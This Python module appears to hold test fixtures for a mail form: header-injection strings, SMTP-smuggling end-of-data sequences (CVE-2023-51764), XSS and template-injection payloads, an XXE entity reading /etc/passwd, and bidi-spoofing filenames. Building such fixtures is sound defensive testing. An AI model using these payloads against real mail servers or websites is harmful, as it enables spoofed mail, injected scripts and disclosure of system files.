"""What people have typed into forms to write other people's mail with, and to run scripts in their readers."""

from __future__ import annotations

from itertools import product

_ENDS = (
    "\n",
    "\r",
    "\r\n",
    "\n\r\n",
    "\v",
    "\f",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00\r\n",
    "=?UTF-8?Q?=0A?=",
    "=?utf-8?q?=0D=0A?=",
    "=?utf-8?b?DQo=?=",
    "=?us-ascii?Q?x=0A_?= ",
    "=\u200e?UTF-8?Q?=0A?=",
    "=\x00?UTF-8?Q?=0A?=",
    "=?UTF-8?Q?x?= =?UTF-8?Q?=0A?=",
    "%0d%0a",
    "\\r\\n",
    "\r\n\r\n",
    "\r\n.\r\n",
    "\n.\n",
)
_NEXT = (
    "Bcc: injected@example.org",
    "To: injected@example.org",
    "Cc:injected@example.org",
    "Subject: other",
    "Reply-To: injected@example.org",
    "Content-Type: text/html; charset=utf-8",
    "MIME-Version: 9.9",
    "MAIL FROM:<injected@example.org>",
    " injected@example.org",
    "\tBcc: injected@example.org",
    "Sender: injected@example.org",
    "Return-Path: <injected@example.org>",
    "Disposition-Notification-To: injected@example.org",
    "Content-Transfer-Encoding: 8bit",
    "Message-ID: <injected@example.org>",
    "RCPT TO:<injected@example.org>",
    "DATA",
    "X:",
)
HEADERS = (
    *(f"x {end}{following}" for end, following in product(_ENDS, _NEXT)),
    *(f"{end}{following}\r\n\r\nbody" for end, following in product(_ENDS[:10], _NEXT[:4])),
    *(f"ends so{end}" for end in _ENDS),
    *(f"{end}begins so" for end in _ENDS),
    "é" * 70 + "\r\nBcc: injected@example.org",
    "x" * 5000,
    "=?" * 300,
    "é=?" * 200,
    "\u202egro.elpmaxe@detcejni :ccB\n",
    '"a" <injected@example.org>',
    "a@b.org, injected@example.org",
    "a@b.org>\r\nRCPT TO:<injected@example.org",
    "a@b.org\u2028Bcc: injected@example.org",
    "=?utf-8?q?a?=@b.org",
    "👩‍💻 " * 60,
    "日本語" * 60,
    "a\u0301" * 200,
    "\u00a0\u3000 \u2003",
    "",
)

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)"></iframe>',
    "<a href='https://example.org'>here</a>",
    "<style>*{display:none}</style>",
    "</div></td></tr></table><h1>Approved</h1>",
    "<!-- ",
    "]]><![CDATA[",
    "&lt;script&gt;",
    "<base href=https://example.org>",
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    '" style="position:fixed;inset:0',
    "' onmouseover='alert(1)",
    "<form action=https://example.org><input name=password>",
    "<link rel=stylesheet href=https://example.org>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
    "\u202e<script>\u2066",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=tg://user?id=1>x</a>",
    "[x](https://example.org) ![x](https://example.org/x.png)",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=https://example.org></object>",
    "<textarea><title><plaintext>",
    "<template><script>alert(1)</script></template>",
    "<!doctype html><html><head>",
    "<?xml version='1.0'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)
MARKUP = tuple(
    before + script + after
    for script, (before, after) in product(
        _SCRIPTS,
        (
            ("", ""),
            ("a\n", "\nb"),
            ("é ", " ع"),
            ("\u2028", "\u2029"),
            ("\u202e", "\u2069"),
            ('">', "<"),
            ("-->", "<!--"),
            ("</td>", "<td>"),
            ("\x00", "\x1b[31m"),
            ("'\"`", "&lt"),
        ),
    )
)

ENDS_OF_DATA = tuple(
    before + end + after
    for end, (before, after) in product(
        (
            "\n.\n",
            "\r.\r",
            "\n.\r\n",
            "\r\n.\n",
            "\r\n.\r",
            "\r.\r\n",
            "\n.\r",
            "\r.\n",
            "\r\n.\r\n",
            "\r\n\x00.\r\n",
            "\r\n.\x00\r\n",
            "\n\n.\n\n",
            "\r\r\n.\r\r\n",
            "\x85.\x85",
            "\u2028.\u2028",
            "\v.\v",
        ),
        (("", ""), ("a", "MAIL FROM:<injected@example.org>\r\nRCPT TO:<injected@example.org>\r\nDATA\r\n"), (".", ".")),
    )
)
"""Ends of a mail for one server and not for the next (CVE-2023-51764 and its kin)."""

DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
BIDI = tuple(
    before.join((control, word))
    for control, before, word in product(DIRECTIONS, ("", "a", "ع", "\n"), ("fdp.exe", "موافق", "approved\u202c"))
)
